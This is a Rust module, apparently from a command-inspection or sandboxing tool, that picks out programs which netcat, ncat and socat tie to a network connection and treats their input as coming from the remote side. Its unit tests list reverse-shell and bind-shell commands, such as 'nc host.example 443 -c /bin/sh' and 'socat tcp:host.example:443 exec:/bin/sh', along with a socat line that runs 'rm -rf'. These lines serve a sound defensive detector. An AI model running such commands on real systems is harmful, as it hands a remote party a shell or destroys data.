//! Programs that are tied to a network connection: `nc -e PROGRAM`, `ncat --sh-exec LINE`, `socat … EXEC:PROGRAM`. What
//! they read comes from whoever is at the other end. Must never take a plain connection for one.

use super::through::Start;
use super::wrappers::launch::values;
use crate::invocation::{Invocation, Stdin};
use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt;

/// Each program that such a command starts.
pub fn of(invocation: &Invocation) -> Vec<Start> {
    let lines = match invocation.program().as_bytes() {
        b"nc" | b"netcat" | b"nc.traditional" | b"ncat" | b"nc.openbsd" => netcat(invocation.args()),
        b"socat" => socat(invocation.args()),
        _ => Vec::new(),
    };
    let start = |argv: Vec<OsString>| Start {
        invocation: invocation.nested(argv).with_stdin(Stdin::TooMuch),
        doubt: None,
    };
    lines.into_iter().map(start).collect()
}

fn line(text: &OsStr) -> Vec<OsString> {
    vec!["sh".into(), "-c".into(), text.to_owned()]
}

/// Without a host to call or a port to listen on it stops.
fn netcat(args: &[OsString]) -> Vec<Vec<OsString>> {
    let mut words = values(args, &["-e", "--exec", "-c", "--sh-exec"]);
    words.retain(|word| !word.is_empty());
    let spare = args.iter().filter(|w| !w.as_bytes().starts_with(b"-") && !words.contains(w)).count();
    let listens = |w: &OsString| w == "--listen" || w.as_bytes().starts_with(b"-l");
    if spare == 0 && !args.iter().any(listens) {
        return Vec::new();
    }
    words.iter().map(|word| line(word)).collect()
}

/// An address that starts a program; two of them, or one and this terminal, need no network, and are judged all the same.
fn socat(args: &[OsString]) -> Vec<Vec<OsString>> {
    let program = |word: &OsString| {
        let text = word.to_str()?;
        let (how, rest) = text.split_once(':').unwrap_or((text.split(',').next()?, ""));
        match how.to_ascii_lowercase().as_str() {
            "exec" | "system" => Some(line(OsStr::new(&unescaped(rest)))),
            "shell" if rest.is_empty() => Some(vec![OsString::from("sh")]),
            "shell" => Some(line(OsStr::new(&unescaped(rest)))),
            _ => None,
        }
    };
    args.iter().filter(|w| !w.as_bytes().starts_with(b"-")).filter_map(program).collect()
}

/// The words up to the first option of the address; a backslash keeps the next character.
fn unescaped(text: &str) -> String {
    let mut out = String::new();
    let mut characters = text.chars();
    let mut quoted = None;
    while let Some(c) = characters.next() {
        match c {
            '\\' => {
                out.extend(characters.next());
                continue;
            }
            ',' if quoted.is_none() => break,
            '"' | '\'' if quoted == Some(c) => quoted = None,
            '"' | '\'' if quoted.is_none() => quoted = Some(c),
            _ => {}
        }
        out.push(c);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::of;
    use crate::invocation::{Invocation, Stdin};

    fn started(words: &[&str]) -> Vec<String> {
        let argv = words.iter().map(Into::into).collect();
        let starts = of(&Invocation::here(argv, Stdin::Terminal).expect("cwd"));
        let last = |s: &super::Start| s.invocation.argv().last().map(|w| w.to_string_lossy().into_owned());
        starts.iter().filter_map(last).collect()
    }

    #[test]
    fn shells_that_are_given_to_the_network() {
        for words in [
            &["nc", "-lp", "4444", "-e", "/bin/sh"][..],
            &["nc", "-le", "/bin/sh", "4444"],
            &["nc", "host.example", "443", "-c", "/bin/sh"],
            &["ncat", "--listen", "--sh-exec=/bin/sh", "4444"],
            &["socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/sh"],
            &["socat", "tcp:host.example:443", "exec:/bin/sh,pty,stderr"],
            &["socat", "TCP:host.example:443", "SYSTEM:/bin/sh"],
        ] {
            assert_eq!(started(words), ["/bin/sh"], "{words:?}");
        }
        assert_eq!(started(&["socat", "TCP-LISTEN:1", "EXEC:rm\\ -rf\\ x"]), ["rm -rf x"]);
        assert_eq!(started(&["socat", "TCP-LISTEN:1", "EXEC:'sh -c \"a, b\"',pty"]), ["'sh -c \"a, b\"'"]);
        assert_eq!(started(&["socat", "TCP-LISTEN:1", "SHELL"]), ["sh"]);
        for words in [
            &["nc", "-zv", "db1", "5432"][..],
            &["nc", "-e", "/bin/sh"],
            &["nc", "-l", "4444"],
            &["socat", "TCP-LISTEN:80,fork", "TCP:10.0.0.1:80"],
            &["socat", "-V"],
        ] {
            assert!(started(words).is_empty(), "{words:?}");
        }
    }
}
